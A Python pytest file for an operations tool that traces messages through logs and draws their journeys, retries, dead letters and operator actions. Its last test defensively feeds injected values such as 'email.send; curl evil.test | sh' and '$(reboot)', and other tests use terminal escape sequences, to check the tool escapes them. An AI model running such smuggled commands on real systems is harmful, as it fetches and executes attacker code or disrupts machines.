"""`trace`: the log search and its output."""

import json
from datetime import UTC, datetime, timedelta
from io import StringIO
from typing import Any

import pytest
from rich.console import Console

from lambdas.common.errors import RetryableError
from ops.stage.log_lines import LogLine, Scheduled
from ops.terminal.errors import OperatorError
from ops.terminal.output import json_lines, show
from ops.trace import tree
from ops.trace.journey import journeys
from ops.trace.search import TraceRequest, trace
from schemas.catalogue import CATALOGUE
from schemas.names import QUEUE_PROCESSOR, log_group_name
from schemas.reasons import OperatorAction, Outcome
from tests.fakes.service import NOON
from tests.fakes.stage import OF_ALL_TYPES, FakeStage
from tests.messages import text
from tests.unit.ops.trace.test_journey_handlers import GENERATED, Chain, Mailbox

SINCE = "2026-04-01T00:00:00Z"


@pytest.fixture
def chain() -> Chain:
    """A journey of three generations with two retries."""
    chain = Chain(Mailbox([RetryableError("SES throttles"), RetryableError("SES is down")]))
    chain.run(text(GENERATED))
    return chain


@pytest.fixture
def stage(chain: Chain) -> FakeStage:
    """A stage with the chain's logs, each line in its function's log group."""
    stage = FakeStage("prod", OF_ALL_TYPES)
    for number, written in enumerate(chain.harness.log):
        fields = json.loads(written)
        if "outcome" in fields:
            group = log_group_name("prod", fields["service"])
            stage.logs.groups.setdefault(group, []).append((10**13 + number, written))
    stage.log("email.send", NOON, outcome="succeeded", id="report-10", correlation_id="report-10")
    return stage


def ids_of(chain: Chain) -> list[str]:
    """All message ids and SQS message ids of a chain."""
    return [each for line in chain.harness.lines for each in (line["id"], line["sqs_message_id"])]


def run(stage: FakeStage, an_id: str, capsys: pytest.CaptureFixture[str]) -> str:
    assert trace(stage.deployed, TraceRequest(asked=an_id, since=SINCE))
    return capsys.readouterr().out


def test_any_id_of_a_chain_finds_the_whole_journey(
    stage: FakeStage, chain: Chain, capsys: pytest.CaptureFixture[str]
) -> None:
    with json_lines():
        journeys = {run(stage, an_id, capsys) for an_id in ids_of(chain)}

    (journey,) = journeys
    hops = [json.loads(line) for line in journey.splitlines()]
    assert [(hop["type"], hop["depth"], hop["what"], hop["attempt"]) for hop in hops] == [
        ("report.generated", 0, "routed", 1),
        ("report.generated", 0, "succeeded", 1),
        ("report.ready", 1, "succeeded", 1),
        ("email.send", 2, "retrying", 1),
        ("email.send", 2, "retrying", 2),
        ("email.send", 2, "succeeded", 3),
    ]
    assert [hop["parent"] for hop in hops[2:4]] == ["report-1", hops[2]["id"]]


def test_the_tree_has_a_line_for_each_message_and_hop(stage: FakeStage, capsys: pytest.CaptureFixture[str]) -> None:
    shown = run(stage, "report-1", capsys)

    lines = shown.splitlines()
    assert lines[0] == "report on 2026-04-14: mail sent, no report from SES yet"
    assert lines[1].startswith("report.generated report-1  2026-04-14 14:00:00.003 UTC  company 7d1f0a52-")
    assert lines[2].startswith("├──   +0.000s → routed        by queue_processor")
    assert "↻ retrying      attempt 2 · 2 ms · RetryableError: SES is down" in shown
    assert lines[-2:] == ["3 messages, 6 hops, 15.1 s, all done", "… sent, no report from SES yet"]
    assert len(lines) == 1 + 3 + 6 + 2


def test_an_id_does_not_match_ids_that_start_with_it(stage: FakeStage, capsys: pytest.CaptureFixture[str]) -> None:
    assert "report-10" not in run(stage, "report-1", capsys)


def test_an_id_in_a_shared_chain_shows_only_its_own_tree(
    capsys: pytest.CaptureFixture[str],
) -> None:
    stage = FakeStage("prod", OF_ALL_TYPES)
    for number in range(3):
        stage.log("sms.send", NOON, outcome="succeeded", id=f"text-{number}", correlation_id="campaign")

    one, all_of_them = run(stage, "text-1", capsys), run(stage, "campaign", capsys)

    assert ("text-1" in one, "text-2" in one) == (True, False)
    assert all(f"text-{number}" in all_of_them for number in range(3))


def test_alerts_and_operator_actions_are_hops(capsys: pytest.CaptureFixture[str]) -> None:
    stage = FakeStage("prod", OF_ALL_TYPES)
    failed: dict[str, Any] = {"outcome": "dead_lettered", "reason": "permanent", "fingerprint": "c0ffee123456"}
    stage.log("email.send", NOON, id="mail-1", type="email.send", correlation_id="booking-1", **failed)
    stage.log("slack_notifier", NOON + timedelta(seconds=40), message="posted", ids=["mail-0", "mail-1"])

    shown = run(stage, "mail-1", capsys)

    assert "✗ dead-lettered permanent c0ffee123456" in shown
    assert "+40.000s ! alert sent to Slack" in shown
    assert "mail-0" not in shown
    assert "1 dead letter" in shown
    assert "taly-async redrive email.send --cause c0ffee123456 --stage prod" in shown


def test_a_refused_message_is_shown_with_its_source(capsys: pytest.CaptureFixture[str]) -> None:
    stage = FakeStage("prod", OF_ALL_TYPES)
    refused: dict[str, Any] = {"outcome": "dead_lettered", "reason": "invalid_payload", "fingerprint": "c0ffee123456"}
    stage.log(QUEUE_PROCESSOR, NOON, id="b-1", type="booking.created", source="crm.bookings", **refused)

    assert "✗ dead-lettered by queue_processor · from crm.bookings · invalid_payload" in run(stage, "b-1", capsys)


def test_a_report_of_ses_shows_the_journey_of_its_mail(capsys: pytest.CaptureFixture[str]) -> None:
    stage = FakeStage("prod", OF_ALL_TYPES)
    chain = {"outcome": "succeeded", "correlation_id": "booking-1"}
    bounced = {"id": "bounced-1", "type": "email.bounced", "causation_id": "mail-1", "detail": "bounced: unknown"}
    stage.log("email.send", NOON, id="mail-1", type="email.send", **chain)
    stage.log("email.send", NOON, id="mail-2", type="email.send", **chain)
    stage.log("email.bounced", NOON + timedelta(seconds=9), **bounced, **chain)
    stage.log("ses.event", NOON, outcome="succeeded", id="report-of-ses", type="ses.event", follow_ups=["bounced-1"])

    shown = run(stage, "report-of-ses", capsys)

    assert "ses.event report-of-ses" in shown
    assert "email.send mail-1" in shown
    assert "mail-2" not in shown
    assert shown.splitlines()[-1] == "✗ bounced: unknown"


def test_an_unknown_id_names_the_search_and_possible_causes(stage: FakeStage) -> None:
    with pytest.raises(OperatorError) as raised:
        trace(stage.deployed, TraceRequest(asked="nobody", since=SINCE))

    sentence = str(raised.value)
    assert f"{len(CATALOGUE) + 3} logs were searched, from 2026-04-01 00:00:00 UTC on" in sentence
    assert "give a longer --since" in sentence
    assert "7d" not in sentence


@pytest.mark.parametrize("an_id", ["", "two words", '"', "\x1b[2J", "x" * 129, "{ $.a = * }"])
def test_an_invalid_id_is_not_searched_for(an_id: str) -> None:
    stage = FakeStage("prod", OF_ALL_TYPES)

    with pytest.raises(OperatorError, match="can be no id") as raised:
        trace(stage.deployed, TraceRequest(asked=an_id))

    assert "\x1b" not in str(raised.value)
    assert stage.logs.requests == []


def drawn(*lines: LogLine, now: datetime = NOON + timedelta(seconds=10)) -> str:
    console = Console(file=StringIO(), highlight=False)
    show(tree.text(journeys(lines), asked="a", stage="prod", now=now), (), to=console)
    assert isinstance(console.file, StringIO)
    return console.file.getvalue()


def line(seconds: float, what: Outcome | OperatorAction, **fields: Any) -> LogLine:
    known = {"id": "a", "type": "email.send", "service": "email.send"} | fields
    return LogLine(at=NOON + timedelta(seconds=seconds), what=what, **known)


def test_a_retrying_message_says_when_it_returns() -> None:
    assert "returns to email.send in 25 s" in drawn(line(0, Outcome.RETRYING, attempt=1, delay=35))
    assert "waiting for email.send for 5 s" in drawn(line(0, Outcome.RETRYING, attempt=1, delay=5))


def test_the_latest_possible_time_is_handled() -> None:
    at_the_end = LogLine(
        at=datetime.max.replace(tzinfo=UTC), what=Outcome.RETRYING, id="a", service="email.send", delay=5
    )

    assert "returns to email.send in" in drawn(at_the_end)


def test_a_routed_message_waits_for_its_function() -> None:
    shown = drawn(line(0, Outcome.ROUTED, service=QUEUE_PROCESSOR))

    assert "waiting for email.send for 10 s" in shown
    assert shown.splitlines()[-1].endswith("1 pending")


def test_announced_messages_are_shown_with_their_state() -> None:
    shown = drawn(line(0, Outcome.SUCCEEDED, follow_ups=("b",), scheduled=(Scheduled("reminder/1/24h", "c"),)))

    assert "b  published" in shown
    assert "c  scheduled: reminder/1/24h" in shown


def test_a_redriven_or_discarded_dead_letter_is_none_any_more() -> None:
    failed = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
    arn = "arn:aws:sts::1:assumed-role/Admin/ada"

    sent_back = drawn(failed, line(1, OperatorAction.REDRIVEN, who=arn))
    discarded = drawn(failed, line(1, OperatorAction.DISCARDED, who=arn))

    assert "↺ redriven      by assumed-role/Admin/ada" in sent_back
    assert "waiting for email.send for 9 s" in sent_back
    assert discarded.splitlines()[-1].endswith("all done")
    assert "redrive" not in discarded


TAKEN_OUT = {OperatorAction.REDRIVEN, OperatorAction.DISCARDED, OperatorAction.REDONE}


@pytest.mark.parametrize("action", sorted(set(OperatorAction) - TAKEN_OUT))
def test_another_action_leaves_the_dead_letter_in_place(action: OperatorAction) -> None:
    failed = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")

    shown = drawn(failed, line(1, action))

    assert shown.splitlines()[-2].endswith("1 dead letter")
    assert "taly-async redrive email.send --cause c0ffee123456" in shown


def test_a_message_done_again_has_the_new_one_below_it_and_says_who() -> None:
    failed = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
    redone = line(1, OperatorAction.REDONE, new_id="new", who="arn:aws:sts::1:assumed-role/Admin/ada")

    pending = drawn(failed, redone)
    shown = drawn(failed, redone, line(2, Outcome.SUCCEEDED, id="new", causation_id=failed.id))

    assert "⟲ done again    by assumed-role/Admin/ada · as new" in shown
    assert "new  published" in pending
    assert shown.index("done again") < shown.index("email.send new")
    assert shown.splitlines()[-2].endswith("all done")
    assert "redrive" not in shown


def test_a_dead_letter_whose_redrive_aws_refused_is_still_one() -> None:
    failed = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")

    shown = drawn(failed, line(1, OperatorAction.REDRIVEN), line(2, OperatorAction.REDRIVE_REFUSED))

    assert "⊘ redrive refused by AWS" in shown
    assert shown.splitlines()[-2].endswith("1 dead letter")


def test_a_message_that_was_redriven_after_a_refusal_is_on_its_way() -> None:
    failed = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")
    refused = [line(1, OperatorAction.REDRIVEN), line(2, OperatorAction.REDRIVE_REFUSED)]

    assert "1 pending" in drawn(failed, *refused, line(3, OperatorAction.REDRIVEN))


def test_a_redo_that_aws_refused_announces_no_message() -> None:
    failed = line(0, Outcome.DEAD_LETTERED, reason="permanent", fingerprint="c0ffee123456")

    shown = drawn(
        failed, line(1, OperatorAction.REDONE, new_id="new"), line(2, OperatorAction.REDO_REFUSED, new_id="new")
    )

    assert "new  published" not in shown
    assert "⊘ redo refused by AWS" in shown
    assert shown.splitlines()[-2].endswith("1 dead letter")


def test_a_refused_repeat_of_a_redo_takes_back_no_message_of_the_first() -> None:
    done = line(0, Outcome.SUCCEEDED)
    first, again = (line(seconds, OperatorAction.REDONE, new_id="new") for seconds in (1, 2))

    shown = drawn(done, first, again, line(3, OperatorAction.REDO_REFUSED, new_id="new"))

    assert "new  published" in shown


def test_a_scheduled_message_that_an_operator_cancelled_is_not_pending() -> None:
    decided = line(0, Outcome.SUCCEEDED, scheduled=(Scheduled("reminder/1/24h", "c"),))
    by_ada = line(1, OperatorAction.SCHEDULE_CANCELLED, id="c", who="arn:aws:sts::1:assumed-role/Admin/ada")

    shown = drawn(decided, by_ada)

    assert "c  cancelled: reminder/1/24h" in shown
    assert "⊖ schedule cancelled by assumed-role/Admin/ada" in shown
    assert "pending" not in shown


def test_a_scheduled_message_that_an_operator_sent_is_on_its_way() -> None:
    decided = line(0, Outcome.SUCCEEDED, scheduled=(Scheduled("reminder/1/24h", "c"),))

    shown = drawn(decided, line(1, OperatorAction.SCHEDULE_RUN, id="c", service="email.send"))

    assert "c  published" in shown
    assert "1 pending" in shown


def test_a_shown_payload_is_a_hop() -> None:
    shown = drawn(line(0, OperatorAction.SHOWN, who="arn:aws:sts::1:assumed-role/Admin/ada"))

    assert "◉ payload shown by assumed-role/Admin/ada" in shown


def test_a_message_that_was_tried_is_a_hop_before_its_outcome() -> None:
    tried = line(0, OperatorAction.TRIED, who="arn:aws:sts::1:assumed-role/Admin/ada", type="sms.send")

    shown = drawn(tried, line(1, Outcome.SUCCEEDED, attempt=1, type="sms.send", service="sms.send"))

    assert "▹ tried by hand by assumed-role/Admin/ada" in shown
    assert shown.splitlines()[-1].endswith("2 hops, 1 s, all done")


def test_a_message_that_was_tried_in_vain_still_waits() -> None:
    retrying = line(0, Outcome.RETRYING, attempt=1, delay=5)

    assert "waiting for email.send for 5 s" in drawn(retrying, line(1, OperatorAction.TRIED))


def test_a_crash_shows_in_the_receive_count() -> None:
    assert "received 3 times" in drawn(line(0, Outcome.DEAD_LETTERED, receive_count=3))


def test_hostile_text_is_escaped() -> None:
    hostile = "[red]\x1b[2J\u202e[/nonsense]"

    shown = drawn(
        line(
            0,
            Outcome.RETRYING,
            error=hostile,
            detail=hostile,
            frame=hostile,
            company_id=hostile,
            unscheduled=(hostile,),
            left_out=(hostile,),
        ),
        line(1, Outcome.DEAD_LETTERED, reason=hostile, fingerprint=hostile, type=hostile, service=hostile),
        line(2, Outcome.SUCCEEDED, id=hostile, causation_id="a"),
        line(3, Outcome.SUCCEEDED, scheduled=(Scheduled(hostile, "later"),)),
    )

    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert shown.count("[red]\\x1b[2J\\u202e[/nonsense]") >= 9


def test_deep_chains_are_drawn() -> None:
    lines = [line(at, Outcome.SUCCEEDED, id=str(at), causation_id=str(at - 1) if at else "") for at in range(60)]

    assert "60 messages" in drawn(*lines)


@pytest.mark.parametrize(
    "unchecked",
    [
        {"service": "email.send; curl evil.test | sh", "fingerprint": "c0ffee123456"},
        {"service": "email.send", "fingerprint": "c0ffee"},
        {"service": "email.send", "fingerprint": "$(reboot)"},
    ],
    ids=str,
)
def test_no_command_contains_unchecked_text_of_a_log(unchecked: dict[str, str]) -> None:
    shown = drawn(line(0, Outcome.DEAD_LETTERED, reason="permanent", **unchecked))

    assert shown.splitlines()[-1].endswith("1 dead letter")
    assert "taly-async" not in shown
